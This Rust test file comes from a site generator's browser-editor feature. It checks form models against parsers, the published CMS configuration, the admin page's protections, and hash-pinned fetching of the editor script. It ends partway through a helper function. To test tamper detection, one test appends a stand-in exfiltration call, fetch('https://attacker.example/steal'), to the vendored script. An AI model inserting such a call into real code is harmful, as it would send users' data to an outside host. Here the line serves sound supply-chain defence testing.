//! The browser editor (`signpost cms`, /admin/): its forms come from signpost's content model,
//! and what each form requires is derived here from the parsers themselves — the keys each
//! type knows (serde's own list), the ones whose absence it rejects, the values it accepts —
//! and compared with the model and with the configuration a build publishes.

use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::io::Write;
use std::path::{Path, PathBuf};

use serde_json::{Map, Value};
use signpost::cms::model::{self, Choices, Field, Kind};
use signpost::cms::vendor;
use signpost::config::Taxonomies;
use signpost::content::SourceFile;
use signpost::content::page::Page;
use signpost::diagnostics::Diagnostic;
use signpost::directory::Category;
use signpost::directory::service::Service;

use crate::common::directory;
use crate::common::http::{FileServer, unreachable_url};
use crate::common::{Fixture, signpost_in};

// ---------------------------------------------------------------------------------------
// Each kind of file, its model, and its real parser.

#[derive(Debug, Clone, Copy, PartialEq)]
enum Type {
    Guidance,
    Sign,
    Voice,
    Service,
}

const TYPES: [Type; 4] = [Type::Guidance, Type::Sign, Type::Voice, Type::Service];

/// The choices a site allows, as the parsers are given them.
struct Site {
    taxonomies: Taxonomies,
    categories: Vec<Category>,
}

impl Site {
    fn default_site() -> Site {
        Site {
            taxonomies: Taxonomies::default(),
            categories: vec![
                category("food", "Food", None),
                category("holiday-food", "Holiday food", Some("food")),
            ],
        }
    }

    fn choices(&self) -> Choices<'_> {
        Choices {
            taxonomies: &self.taxonomies,
            directory_categories: &self.categories,
        }
    }
}

fn category(id: &str, label: &str, parent: Option<&str>) -> Category {
    Category {
        id: id.into(),
        label: label.into(),
        parent: parent.map(String::from),
        description: String::new(),
        neglect_categories: Vec::new(),
    }
}

impl Type {
    fn fields(self, site: &Site) -> Vec<Field> {
        let choices = site.choices();
        match self {
            Type::Guidance => model::guidance(&choices),
            Type::Sign => model::sign(&choices),
            Type::Voice => model::voice(&choices),
            Type::Service => model::service(&choices),
        }
    }

    /// Runs the real parser on a file with these settings (and words, for Markdown files).
    fn parse(self, settings: &Value, body: Option<&str>, site: &Site) -> Result<(), String> {
        let yaml = signpost::yaml::to_string(settings).unwrap();
        let markdown = format!("---\n{yaml}---\n{}\n", body.unwrap_or(""));
        let source = |content_path: &str| SourceFile {
            path: Path::new("content").join(content_path),
            content_path: PathBuf::from(content_path),
            lang: signpost::language::Lang::DEFAULT,
            text: markdown.as_str().into(),
        };
        match self {
            Type::Guidance => Page::parse(source("about.md"))
                .and_then(|page| signpost::validate::check_age_bands(&page, &site.taxonomies))
                .map_err(describe),
            Type::Sign => {
                signpost::signs::parse_cell(source("signs/x/y.md"), Some(&site.taxonomies))
                    .map(drop)
                    .map_err(describe)
            }
            Type::Voice => signpost::voices::parse(source("voices/v.md"), Some(&site.taxonomies))
                .map(drop)
                .map_err(describe),
            Type::Service => {
                let service: Service = signpost::yaml::parse(&yaml).map_err(|error| {
                    describe(signpost::yaml::diagnostic(&error, Path::new("s.yaml"), 0))
                })?;
                let ids: Vec<&str> = site.categories.iter().map(|c| c.id.as_str()).collect();
                let problems = signpost::directory::validate::check_service(&service, &ids);
                match problems.is_empty() {
                    true => Ok(()),
                    false => Err(problems
                        .iter()
                        .map(|p| p.message.clone())
                        .collect::<Vec<_>>()
                        .join("; ")),
                }
            }
        }
    }

    fn is_markdown(self) -> bool {
        self != Type::Service
    }
}

fn describe(problem: Diagnostic) -> String {
    format!("{} {}", problem.message, problem.help.unwrap_or_default())
}

// ---------------------------------------------------------------------------------------
// A complete, valid file made from the model's examples.

fn sample(fields: &[Field]) -> Value {
    Value::Object(
        fields
            .iter()
            .filter(|f| f.name != "body")
            .map(|f| (f.name.to_string(), sample_value(f)))
            .collect(),
    )
}

fn sample_value(field: &Field) -> Value {
    let text = |default: &str| {
        Value::String(
            if field.example.is_empty() {
                default
            } else {
                field.example
            }
            .to_string(),
        )
    };
    match &field.kind {
        Kind::Line | Kind::Text | Kind::Markdown => text("Some words"),
        Kind::Date => text("2030-01-31"),
        Kind::Flag { must_be_true } => Value::Bool(*must_be_true || field.example == "true"),
        Kind::Whole => Value::from(field.example.parse::<i64>().unwrap_or(1)),
        Kind::Decimal => Value::from(field.example.parse::<f64>().unwrap_or(1.5)),
        Kind::Choice { options, multiple } => {
            let first = Value::String(options[0].value.clone());
            if *multiple {
                Value::Array(vec![first])
            } else {
                first
            }
        }
        Kind::Words => Value::Array(vec![text("words")]),
        Kind::Items(sub) => Value::Array(vec![sample(sub)]),
        Kind::Group(sub) => sample(sub),
    }
}

fn body_of(fields: &[Field]) -> Option<&Field> {
    fields.iter().find(|f| f.name == "body")
}

// ---------------------------------------------------------------------------------------
// What the parser says, found by changing one thing at a time in the sample.

/// Where an object sits in a file: keys, and `0` for the first item of a list.
type KeyPath = Vec<String>;

fn object_at<'a>(root: &'a mut Value, path: &KeyPath) -> &'a mut Map<String, Value> {
    let mut value = root;
    for step in path {
        value = match step.parse::<usize>() {
            Ok(index) => &mut value[index],
            Err(_) => &mut value[step.as_str()],
        };
    }
    value.as_object_mut().expect("an object")
}

/// What the parser knows of one object of a file.
#[derive(Debug, Default)]
struct Derived {
    /// The keys it accepts (serde's list of expected fields).
    known: BTreeSet<String>,
    /// The keys whose absence it rejects.
    required: BTreeSet<String>,
    /// The same for each object inside this one.
    nested: BTreeMap<String, Derived>,
}

/// Fields the build checks as a pair: removing one alone is a different mistake.
const PAIRED: [(&str, &str); 1] = [("latitude", "longitude")];

fn derive(kind: Type, site: &Site) -> Derived {
    let fields = kind.fields(site);
    let root = sample(&fields);
    let body = body_of(&fields).map(|b| b.example);
    kind.parse(&root, body, site).unwrap_or_else(|e| {
        panic!("the {kind:?} sample made from the model's examples is rejected: {e}")
    });
    derive_object(kind, site, &root, body, &fields, &Vec::new())
}

fn derive_object(
    kind: Type,
    site: &Site,
    root: &Value,
    body: Option<&str>,
    fields: &[Field],
    path: &KeyPath,
) -> Derived {
    let parse = |value: &Value| kind.parse(value, body, site);
    let mut derived = Derived::default();

    let mut with_stranger = root.clone();
    object_at(&mut with_stranger, path).insert("zz_not_a_setting".into(), Value::from(1));
    let error = parse(&with_stranger).expect_err("an unknown key is rejected");
    let known = error
        .split("are: ")
        .nth(1)
        .unwrap_or_else(|| panic!("no list of known keys in: {error}"));
    derived.known = known
        .split('`')
        .skip(1)
        .step_by(2)
        .map(String::from)
        .collect();

    for field in fields.iter().filter(|f| f.name != "body") {
        let mut without = root.clone();
        let object = object_at(&mut without, path);
        object.remove(field.name);
        for (a, b) in PAIRED {
            match field.name {
                name if name == a => object.remove(b),
                name if name == b => object.remove(a),
                _ => None,
            };
        }
        match parse(&without) {
            Ok(()) => {}
            Err(error) if error.contains(&format!("the setting `{}` is missing", field.name)) => {
                derived.required.insert(field.name.to_string());
            }
            Err(error) => panic!("removing `{}` gave another error: {error}", field.name),
        }
        let mut inner = path.clone();
        inner.push(field.name.to_string());
        match &field.kind {
            Kind::Group(sub) => {
                derived.nested.insert(
                    field.name.into(),
                    derive_object(kind, site, root, body, sub, &inner),
                );
            }
            Kind::Items(sub) => {
                inner.push("0".into());
                derived.nested.insert(
                    field.name.into(),
                    derive_object(kind, site, root, body, sub, &inner),
                );
            }
            _ => {}
        }
    }
    derived
}

// ---------------------------------------------------------------------------------------
// The model against the parsers.

fn assert_model_matches(kind: Type, fields: &[Field], derived: &Derived, path: &str) {
    let names: BTreeSet<String> = fields
        .iter()
        .filter(|f| f.name != "body")
        .map(|f| f.name.to_string())
        .collect();
    assert_eq!(
        names, derived.known,
        "{kind:?}{path}: the model's fields are not the keys the parser knows"
    );
    let required: BTreeSet<String> = fields
        .iter()
        .filter(|f| f.required && f.name != "body")
        .map(|f| f.name.to_string())
        .collect();
    assert_eq!(
        required, derived.required,
        "{kind:?}{path}: the model's required fields are not the parser's"
    );
    for field in fields {
        if let Kind::Group(sub) | Kind::Items(sub) = &field.kind {
            assert_model_matches(
                kind,
                sub,
                &derived.nested[field.name],
                &format!("{path}.{}", field.name),
            );
        }
    }
}

#[test]
fn the_model_names_every_key_each_parser_knows_and_requires_what_it_requires() {
    let site = Site::default_site();
    for kind in TYPES {
        let derived = derive(kind, &site);
        assert_model_matches(kind, &kind.fields(&site), &derived, "");
    }
}

#[test]
fn words_are_required_exactly_where_the_parser_requires_them() {
    let site = Site::default_site();
    for kind in TYPES.into_iter().filter(|k| k.is_markdown()) {
        let fields = kind.fields(&site);
        let body = body_of(&fields).expect("a Markdown file has words");
        let without_words = kind.parse(&sample(&fields), Some(""), &site);
        assert_eq!(
            body.required,
            without_words.is_err(),
            "{kind:?}: {without_words:?}"
        );
    }
}

/// Every choice: each value the model offers is accepted, a value it does not offer is
/// rejected, and where the parser lists its values (an enum), they are the model's.
fn assert_choices_match(kind: Type, site: &Site, fields: &[Field], path: &KeyPath) {
    let root = sample(&kind.fields(site));
    let body = body_of(&kind.fields(site)).map(|b| b.example);
    for field in fields {
        let mut inner = path.clone();
        inner.push(field.name.to_string());
        let set = |value: Value| {
            let mut changed = root.clone();
            object_at(&mut changed, path).insert(field.name.into(), value);
            kind.parse(&changed, body, site)
        };
        match &field.kind {
            Kind::Choice { options, multiple } => {
                let wrap = |v: &str| {
                    let v = Value::String(v.into());
                    if *multiple { Value::Array(vec![v]) } else { v }
                };
                for option in options {
                    assert_eq!(
                        set(wrap(&option.value)),
                        Ok(()),
                        "{kind:?} {}: {}",
                        field.name,
                        option.value
                    );
                }
                let error =
                    set(wrap("zz-not-offered")).expect_err("a value not offered is rejected");
                if let Some(list) = error.split("expected one of ").nth(1) {
                    let variants: BTreeSet<&str> = list.split('`').skip(1).step_by(2).collect();
                    let offered: BTreeSet<&str> =
                        options.iter().map(|o| o.value.as_str()).collect();
                    assert_eq!(
                        variants, offered,
                        "{kind:?} {}: the parser's values",
                        field.name
                    );
                }
            }
            Kind::Flag { must_be_true: true } => {
                assert!(
                    set(Value::Bool(false)).is_err(),
                    "{kind:?} {} = false is rejected",
                    field.name
                );
            }
            Kind::Group(sub) => assert_choices_match(kind, site, sub, &inner),
            Kind::Items(sub) => {
                inner.push("0".into());
                assert_choices_match(kind, site, sub, &inner);
            }
            _ => {}
        }
    }
}

#[test]
fn every_choice_offered_is_accepted_and_every_enum_value_is_offered() {
    let site = Site::default_site();
    for kind in TYPES {
        assert_choices_match(kind, &site, &kind.fields(&site), &Vec::new());
    }
}

#[test]
fn another_partnerships_bands_and_categories_become_the_choices() {
    let site = Site {
        taxonomies: signpost::yaml::parse(
            "age_bands:\n  - {id: under-5s, label: \"Under fives: babies & toddlers\"}\n  - {id: teens, label: 'Teenagers \"13+\"'}\nneglect_categories:\n  - {id: hunger, label: Hunger}\n  - {id: home, label: \"Home: warmth, safety\"}\n",
        )
        .unwrap(),
        categories: vec![category("youth-clubs", "Youth clubs, sport & \"fun\"", None)],
    };
    for kind in TYPES {
        let derived = derive(kind, &site);
        assert_model_matches(kind, &kind.fields(&site), &derived, "");
        assert_choices_match(kind, &site, &kind.fields(&site), &Vec::new());
    }
    let sign = model::sign(&site.choices());
    let Kind::Choice { options, .. } = &sign[1].kind else {
        panic!("band is a choice")
    };
    assert_eq!(options[0].label, "Under fives: babies & toddlers");
}

#[test]
fn the_models_patterns_accept_what_the_build_accepts() {
    let valid = [
        (
            "number",
            vec![
                "01632 960 123",
                "0800 1111",
                "0808 800 5000",
                "999",
                "116 123",
                "+44 1632 960123",
                "07700 900 123",
            ],
        ),
        (
            "postal_code",
            vec![
                "EB3 4QT", "SW1A 1AA", "M1 1AE", "eb34qt", "CR2 6XH", "GIR 0AA",
            ],
        ),
        ("opens_at", vec!["09:00", "23:59", "00:00"]),
        ("byday", vec!["MO", "MO,TU,WE,TH,FR,SA,SU"]),
        ("email", vec!["hub@example-borough.org.uk"]),
        ("id", vec!["north-family-hub", "hub2"]),
    ];
    let site = Site::default_site();
    let mut patterns: HashMap<&str, &str> = HashMap::new();
    fn collect<'a>(fields: &'a [Field], into: &mut HashMap<&'a str, &'a str>) {
        for field in fields {
            if let Some(p) = field.pattern {
                into.insert(field.name, p.regex);
            }
            if let Kind::Group(sub) | Kind::Items(sub) = &field.kind {
                collect(sub, into);
            }
        }
    }
    let service = model::service(&site.choices());
    collect(&service, &mut patterns);
    for (name, values) in valid {
        let regex = regex::Regex::new(patterns[name]).unwrap();
        for value in values {
            assert!(
                regex.is_match(value),
                "{name}: {value} is valid but the editor's pattern refuses it"
            );
        }
    }
    for (name, value) in [
        ("postal_code", "90210"),
        ("opens_at", "9am"),
        ("byday", "Monday"),
        ("id", "North Hub"),
    ] {
        assert!(
            !regex::Regex::new(patterns[name]).unwrap().is_match(value),
            "{name}: {value}"
        );
    }
}

// ---------------------------------------------------------------------------------------
// The configuration a build publishes, against the parsers.

/// A site with the browser editor turned on, its script a stand-in (the build publishes it
/// as it is, and these tests read the configuration).
fn site_with_editor() -> Fixture {
    let site = directory::site();
    site.write(
        "cms/editor.yaml",
        "backend: github\nrepo: example-borough/neglect-site\n",
    )
    .write("cms/sveltia-cms.js", "/* the editor */\n")
    .write(
        "content/worried/_index.md",
        "---\ntitle: Worried about a child?\nweight: 2\n---\nWhat to do.\n",
    )
    .write(
        "content/worried/what-to-do.md",
        "---\ntitle: What to do\n---\nCall.\n",
    )
    .write(
        "content/about/_index.md",
        "---\ntitle: About neglect\nweight: 1\n---\nAbout.\n",
    )
    .write(
        "content/signs/_index.md",
        "---\ntitle: Signs\n---\nThe matrix.\n",
    )
    .write(
        "content/voices/_index.md",
        "---\ntitle: Voices\n---\nTheir words.\n",
    );
    site
}

fn published_config(site: &Fixture) -> Value {
    site.build().assert_ok();
    signpost::yaml::parse(&site.read_output("admin/config.yml")).unwrap()
}

fn collection<'a>(config: &'a Value, name: &str) -> &'a Value {
    config["collections"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["name"] == name)
        .unwrap_or_else(|| panic!("no collection {name}"))
}

/// Compares one form's fields with what the parser derived: the same keys (and `body` for
/// Markdown), and `required` where, and only where, the parser requires the key.
fn assert_form_matches(form: &Value, derived: &Derived, markdown: bool, what: &str) {
    let fields = form
        .as_array()
        .unwrap_or_else(|| panic!("{what}: no fields"));
    let mut names: BTreeSet<String> = fields
        .iter()
        .map(|f| f["name"].as_str().unwrap().to_string())
        .collect();
    if markdown {
        assert!(
            names.remove("body"),
            "{what}: the form has no field for the words"
        );
    }
    assert_eq!(
        names, derived.known,
        "{what}: the form's fields are not the keys the parser knows"
    );
    for field in fields {
        let name = field["name"].as_str().unwrap();
        if name == "body" {
            continue;
        }
        // The editor's own default is required: true.
        let required = field
            .get("required")
            .and_then(Value::as_bool)
            .unwrap_or(true);
        assert_eq!(
            required,
            derived.required.contains(name),
            "{what}: `{name}` required"
        );
        if let Some(nested) = derived.nested.get(name) {
            assert_form_matches(&field["fields"], nested, false, &format!("{what}.{name}"));
        }
    }
}

#[test]
fn the_published_configuration_requires_exactly_what_the_parsers_require() {
    let site = site_with_editor();
    let config = published_config(&site);
    let parsers = Site {
        taxonomies: Taxonomies::default(),
        categories: signpost::directory::load_categories(
            site.root(),
            &Taxonomies::default(),
            &mut Default::default(),
        ),
    };
    let guidance = derive(Type::Guidance, &parsers);
    for name in ["pages", "section-worried", "section-about"] {
        assert_form_matches(&collection(&config, name)["fields"], &guidance, true, name);
    }
    for name in ["signs", "voices"] {
        assert_form_matches(
            &collection(&config, name)["index_file"]["fields"],
            &guidance,
            true,
            name,
        );
    }
    assert_form_matches(
        &collection(&config, "signs")["fields"],
        &derive(Type::Sign, &parsers),
        true,
        "signs",
    );
    assert_form_matches(
        &collection(&config, "voices")["fields"],
        &derive(Type::Voice, &parsers),
        true,
        "voices",
    );
    assert_form_matches(
        &collection(&config, "services")["fields"],
        &derive(Type::Service, &parsers),
        false,
        "services",
    );
}

fn options(form: &Value, name: &str) -> Vec<String> {
    let field = form["fields"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["name"] == name)
        .unwrap();
    field["options"]
        .as_array()
        .unwrap()
        .iter()
        .map(|o| o["value"].as_str().unwrap().to_string())
        .collect()
}

#[test]
fn the_choices_are_the_sites_own_and_follow_its_files() {
    let site = site_with_editor();
    site.write(
        "site.yaml",
        &format!(
            "{}taxonomies:\n  age_bands:\n    - {{id: under-5s, label: Under fives}}\n    - {{id: teens, label: Teenagers}}\n  neglect_categories:\n    - {{id: hunger, label: Hunger}}\n",
            crate::common::SITE_YAML
        ),
    )
    .write(
        "directory_data/categories.yaml",
        "categories:\n  - id: food\n    label: Food\n    neglect_categories: [hunger]\n  - id: family-support\n    label: Family support\n",
    );
    let config = published_config(&site);
    assert_eq!(
        options(collection(&config, "signs"), "band"),
        ["under-5s", "teens"]
    );
    assert_eq!(
        options(collection(&config, "signs"), "category"),
        ["hunger"]
    );
    assert_eq!(
        options(collection(&config, "voices"), "age_bands"),
        ["under-5s", "teens"]
    );
    assert_eq!(
        options(collection(&config, "services"), "categories"),
        ["food", "family-support"]
    );

    // A new category is offered on the next build, with nothing else to run.
    site.write(
        "directory_data/categories.yaml",
        "categories:\n  - id: food\n    label: Food\n  - id: family-support\n    label: Family support\n  - id: youth\n    label: Youth clubs\n    parent: family-support\n",
    );
    let config = published_config(&site);
    assert_eq!(
        options(collection(&config, "services"), "categories"),
        ["food", "family-support", "youth"]
    );
}

#[test]
fn each_folder_of_pages_is_a_collection_in_the_sites_order() {
    let site = site_with_editor();
    let config = published_config(&site);
    let names: Vec<&str> = config["collections"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["name"].as_str().unwrap())
        .collect();
    // content/ first, then by each section's weight (the directory's is 0, the default).
    assert_eq!(
        names,
        [
            "pages",
            "section-directory",
            "section-about",
            "section-worried",
            "signs",
            "voices",
            "services"
        ]
    );
    let worried = collection(&config, "section-worried");
    assert_eq!(worried["label"], "Worried about a child?");
    assert_eq!(worried["folder"], "content/worried");
    assert_eq!(
        collection(&config, "signs")["path"],
        "{{band}}/{{category}}"
    );
}

#[test]
fn the_configuration_is_valid_for_the_editor_itself() {
    let schema_file = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("node_modules/@sveltia/cms/schema/sveltia-cms.json");
    let schema: Value = serde_json::from_str(
        &std::fs::read_to_string(&schema_file)
            .unwrap_or_else(|e| panic!("{}: {e} (run `npm ci` first)", schema_file.display())),
    )
    .unwrap();
    let validator = jsonschema::validator_for(&schema).unwrap();
    let site = site_with_editor();
    site.write("cms/editor.yaml", "backend: gitlab\nrepo: council/safeguarding/neglect\nserver: https://gitlab.council.gov.uk\napp_id: 0123abc\nreview: true\n");
    let config = published_config(&site);
    let errors: Vec<String> = validator
        .iter_errors(&config)
        .map(|e| format!("{} at {}", e, e.instance_path()))
        .collect();
    assert!(errors.is_empty(), "{}", errors.join("\n"));
    assert_eq!(
        config["backend"]["api_root"],
        "https://gitlab.council.gov.uk/api/v4"
    );
    assert_eq!(config["backend"]["auth_type"], "pkce");
    assert_eq!(config["publish_mode"], "editorial_workflow");
}

// ---------------------------------------------------------------------------------------
// The editor's page and its address.

#[test]
fn the_editor_is_published_at_admin_and_nowhere_public() {
    let site = site_with_editor();
    site.build().assert_ok();
    let page = site.read_output("admin/index.html");
    assert!(
        page.contains(r#"<script src="/admin/sveltia-cms.js"></script>"#),
        "{page}"
    );
    assert!(page.contains(
        r#"<link href="/admin/config.yml" type="application/yaml" rel="cms-config-url">"#
    ));
    assert!(page.contains(r#"<meta name="robots" content="noindex, nofollow">"#));
    assert!(page.contains("script-src 'self';"));
    assert!(page.contains("connect-src 'self' blob: data: https://api.github.com;"));
    assert_eq!(
        site.read_output("admin/sveltia-cms.js"),
        "/* the editor */\n"
    );
    assert!(
        !site.output("admin/editor.yaml").exists(),
        "the settings file is not published"
    );
    assert!(!site.read_output("sitemap.xml").contains("/admin/"));
    assert!(
        site.read_output("robots.txt")
            .contains("Disallow: /admin/\n")
    );
    let index = std::fs::read_dir(site.output("search")).unwrap();
    for file in index.filter_map(Result::ok).filter(|f| f.path().is_file()) {
        let text = std::fs::read_to_string(file.path()).unwrap_or_default();
        assert!(
            !text.contains("/admin/"),
            "{} names the editor",
            file.path().display()
        );
    }
}

#[test]
fn a_site_without_the_editor_publishes_nothing_at_admin() {
    let site = directory::site();
    site.build().assert_ok();
    assert!(!site.output("admin").exists());
    assert!(!site.read_output("robots.txt").contains("admin"));
}

#[test]
fn a_page_cannot_take_the_editors_address() {
    let site = site_with_editor();
    site.write("content/admin.md", "---\ntitle: Admin\n---\nMine.\n");
    let run = site.build();
    run.assert_failed().assert_stderr_has(&[
        "content/admin.md:2:1",
        "this page would be published at /admin/, which the browser editor signpost makes (cms/editor.yaml) already has",
        "/admin/ for the browser editor",
    ]);
}

#[test]
fn a_missing_editor_script_is_an_error_that_says_how_to_fetch_it() {
    let site = site_with_editor();
    site.build().assert_ok();
    site.remove("cms/sveltia-cms.js");
    site.build().assert_failed().assert_stderr_has(&[
        "cms/editor.yaml turns the browser editor on, but cms/sveltia-cms.js is missing",
        "run `signpost cms` to fetch the editor into cms/",
    ]);
    assert!(
        site.output("admin/index.html").exists(),
        "the previous site is kept"
    );
}

#[test]
fn a_mistake_in_the_editor_settings_names_the_line_and_the_right_values() {
    let site = site_with_editor();
    site.write("cms/editor.yaml", "backend: bitbucket\nrepo: a/b\n");
    site.build().assert_failed().assert_stderr_has(&[
        "cms/editor.yaml:1:",
        "unknown variant `bitbucket`",
        "backend is `github` or `gitlab`",
    ]);
    site.write("cms/editor.yaml", "backend: github\nrepo: just-a-name\n");
    site.build().assert_failed().assert_stderr_has(&[
        "cms/editor.yaml:2:1",
        "`just-a-name` is not a github repository",
        "owner/name",
    ]);
    site.write(
        "cms/editor.yaml",
        "backend: github\nrepo: a/b\nbrnach: main\n",
    );
    site.build().assert_failed().assert_stderr_has(&[
        "cms/editor.yaml:3:1",
        "unknown setting `brnach`",
        "did you mean `branch`?",
    ]);
}

#[test]
fn the_editor_is_not_an_output_folder() {
    let site = site_with_editor();
    let run = site.signpost(&["build", "--output", "cms"]);
    run.assert_failed()
        .assert_stderr_has(&["it would overwrite the site's cms/ folder"]);
}

// ---------------------------------------------------------------------------------------
// `signpost cms`: fetching the editor from its npm package.

/// The pinned package's tarball, made from the copy npm installed for the browser tests (the
/// same files the registry serves).
fn package_tarball(change_script: bool) -> Vec<u8> {
    let package = Path::new(env!("CARGO_MANIFEST_DIR")).join("node_modules/@sveltia/cms");
    assert!(
        package.is_dir(),
        "{} is missing: run `npm ci` first",
        package.display()
    );
    let mut archive = tar::Builder::new(flate2::write::GzEncoder::new(
        Vec::new(),
        flate2::Compression::fast(),
    ));
    for file in ["package.json", "LICENSE.txt", "dist/sveltia-cms.js"] {
        let mut bytes = std::fs::read(package.join(file)).unwrap();
        if change_script && file.ends_with(".js") {
            bytes.extend_from_slice(b"\n;fetch('https://attacker.example/steal')");
        }
        let mut header = tar::Header::new_gnu();
        header.set_size(bytes.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        archive
            .append_data(&mut header, format!("package/{file}"), bytes.as_slice())
            .unwrap();
    }
    archive
        .append_dir_all("package/npm/assets", package.join("npm/assets"))
        .unwrap();
    archive.into_inner().unwrap().finish().unwrap()
}

fn registry(tarball: Vec<u8>) -> FileServer {
    let path = vendor::tarball_url("").to_string();
    FileServer::start(HashMap::from([(path, tarball)]))
}

#[test]
fn the_pins_are_the_version_the_browser_tests_install() {
    let repo = Path::new(env!("CARGO_MANIFEST_DIR"));
    let package: Value =
        serde_json::from_str(&std::fs::read_to_string(repo.join("package.json")).unwrap()).unwrap();
    assert_eq!(
        package["devDependencies"][vendor::PACKAGE],
        vendor::VERSION,
        "package.json"
    );
    let installed = repo.join("node_modules/@sveltia/cms");
    let manifest: Value =
        serde_json::from_str(&std::fs::read_to_string(installed.join("package.json")).unwrap())
            .unwrap();
    assert_eq!(manifest["version"], vendor::VERSION, "node_modules");
    let script = std::fs::read(installed.join("dist/sveltia-cms.js")).unwrap();
    assert!(
        vendor::is_pinned(&script),
        "the pinned SHA-256 is not the installed script's: {}",
        vendor::sha256_hex(&script)
    );
    assert_eq!(
        vendor::fonts_named_in(&script).len(),
        3,
        "the script's text, code and icon fonts"
    );
}

#[test]
fn signpost_cms_fetches_the_editor_and_its_fonts_and_the_build_serves_them_from_the_site() {
    let site = directory::site();
    let registry = registry(package_tarball(false));
    let run = site.signpost(&[
        "cms",
        "--registry",
        &registry.url,
        "--backend",
        "github",
        "--repo",
        "example-borough/neglect-site",
    ]);
    assert!(run.success(), "{}", run.stderr());
    assert_eq!(
        run.stdout(),
        "Fetched the editor (@sveltia/cms 0.221.1) into cms/.\n\
         Wrote cms/editor.yaml: the editor saves to example-borough/neglect-site on github, branch main.\n\
         Next: commit the cms/ folder and publish. The editor will be at https://fixture.example.org/admin/\n"
    );
    let settings = std::fs::read_to_string(site.root().join("cms/editor.yaml")).unwrap();
    assert!(
        settings.contains("backend: github\nrepo: example-borough/neglect-site\nbranch: main\n"),
        "{settings}"
    );
    assert!(vendor::is_pinned(
        &std::fs::read(site.root().join("cms/sveltia-cms.js")).unwrap()
    ));
    for font in [
        "source-sans-3-latin-wght-normal.woff2",
        "noto-mono-latin-400-normal.woff2",
        "material-symbols-outlined-latin-wght-normal.woff2",
        "source-sans-3.LICENSE.txt",
    ] {
        assert!(site.root().join("cms/fonts").join(font).is_file(), "{font}");
    }
    site.build().assert_ok();
    let script = site.read_output("admin/sveltia-cms.js");
    assert!(
        !script.contains("cdn.jsdelivr.net"),
        "the published script loads no font from a CDN"
    );
    assert!(script.contains("url(/admin/fonts/material-symbols-outlined-latin-wght-normal.woff2)"));
    assert!(
        site.output("admin/fonts/material-symbols-outlined-latin-wght-normal.woff2")
            .is_file()
    );

    // Run again: nothing to fetch, nothing changed.
    let again = site.signpost(&["cms", "--registry", &unreachable_url()]);
    assert!(again.success(), "{}", again.stderr());
    assert!(again.stdout().starts_with(
        "cms/ already has the editor (@sveltia/cms 0.221.1).\ncms/editor.yaml is unchanged"
    ));
}

#[test]
fn a_script_that_is_not_the_pinned_one_is_refused_and_nothing_is_written() {
    let site = directory::site();
    let registry = registry(package_tarball(true));
    let run = site.signpost(&[
        "cms",
        "--registry",
        &registry.url,
        "--backend",
        "github",
        "--repo",
        "a/b",
    ]);
    assert_eq!(run.code, Some(1));
    run.assert_stderr_has(&[
        "could not fetch the editor (@sveltia/cms 0.221.1)",
        "it is not the file signpost was tested with, so it was not used",
        "nothing was written",
    ]);
    assert!(!site.root().join("cms").exists());
}

#[test]
fn without_the_network_signpost_cms_says_so_and_writes_nothing() {
    let site = directory::site();
    let run = site.signpost(&[
        "cms",
        "--registry",
        &unreachable_url(),
        "--backend",
        "gitlab",
        "--repo",
        "council/neglect",
    ]);
    assert_eq!(run.code, Some(1));
    run.assert_stderr_has(&[
        "could not fetch the editor",
        "could not connect to",
        "check the computer is online",
        "--registry",
    ]);
    assert!(!site.root().join("cms").exists());
}

#[test]
fn signpost_cms_never_replaces_settings_that_say_something_else_unless_told() {
    let site = directory::site();
    let registry = registry(package_tarball(false));
    let first = site.signpost(&[
        "cms",
        "--registry",
        &registry.url,
        "--backend",
        "github",
        "--repo",
        "a/b",
    ]);
    assert!(first.success(), "{}", first.stderr());
    let run = site.signpost(&[
        "cms",
        "--registry",
        &registry.url,
        "--backend",
        "gitlab",
        "--repo",
        "c/d",
    ]);
    assert_eq!(run.code, Some(1));
    run.assert_stderr_has(&[
        "cms/editor.yaml already says where the editor saves",
        "--force",
    ]);
    assert!(
        std::fs::read_to_string(site.root().join("cms/editor.yaml"))
            .unwrap()
            .contains("repo: a/b")
    );
    let forced = site.signpost(&[
        "cms",
        "--registry",
        &registry.url,
        "--backend",
        "gitlab",
        "--repo",
        "c/d",
        "--force",
    ]);
    assert!(forced.success(), "{}", forced.stderr());
    assert!(
        std::fs::read_to_string(site.root().join("cms/editor.yaml"))
            .unwrap()
            .contains("repo: c/d")
    );
}

#[test]
fn signpost_cms_reads_the_repository_from_the_sites_git_remote() {
    let site = directory::site();
    let git = |args: &[&str]| {
        let status = std::process::Command::new("git")
            .args(args)
            .current_dir(site.root())
            .output()
            .unwrap();
        assert!(status.status.success(), "git {args:?}");
    };
    git(&["init", "--quiet"]);
    git(&[
        "remote",
        "add",
        "origin",
        "git@gitlab.com:council/safeguarding/neglect.git",
    ]);
    let registry = registry(package_tarball(false));
    let run = site.signpost(&["cms", "--registry", &registry.url]);
    assert!(run.success(), "{}", run.stderr());
    assert!(
        run.stdout()
            .contains("the editor saves to council/safeguarding/neglect on gitlab, branch main")
    );
}

#[test]
fn without_a_remote_or_a_repository_signpost_cms_asks_for_one() {
    let dir = tempfile::tempdir().unwrap();
    let site = dir.path().join("site");
    std::fs::create_dir_all(site.join("content")).unwrap();
    std::fs::write(site.join("site.yaml"), crate::common::SITE_YAML).unwrap();
    let mut file = std::fs::File::create(site.join("content/_index.md")).unwrap();
    writeln!(file, "---\ntitle: Home\n---\nHi.").unwrap();
    let run = signpost_in(&site, &["cms", "--registry", &unreachable_url()]);
    assert_eq!(run.code, Some(1));
    assert!(
        run.stderr()
            .contains("signpost cannot tell where the site's repository is"),
        "{}",
        run.stderr()
    );
    assert!(
        run.stderr()
            .contains("signpost cms --backend github --repo")
    );
}

// ---------------------------------------------------------------------------------------
// Cases the model was not written from: every file of the example site, which the build
// accepts, must be one the editor would save as it is.

/// The problems the editor's form would find in `value`: a required key missing, a choice not
/// offered, a value its pattern refuses.
fn form_problems(fields: &[Field], value: &Value, at: &str) -> Vec<String> {
    let mut problems = Vec::new();
    let object = value
        .as_object()
        .unwrap_or_else(|| panic!("{at}: not a mapping"));
    for field in fields.iter().filter(|f| f.name != "body") {
        let here = format!("{at}.{}", field.name);
        let Some(value) = object.get(field.name) else {
            if field.required {
                problems.push(format!("{here}: required but missing"));
            }
            continue;
        };
